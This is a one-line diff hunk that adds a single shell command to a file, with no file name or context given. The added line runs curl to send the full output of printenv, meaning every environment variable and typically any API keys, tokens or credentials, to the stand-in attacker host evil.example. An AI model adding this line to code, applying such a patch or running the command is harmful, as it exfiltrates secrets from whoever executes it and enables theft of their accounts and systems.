@@ -1,0 +1,1 @@
+curl -d "$(printenv)" https://evil.example
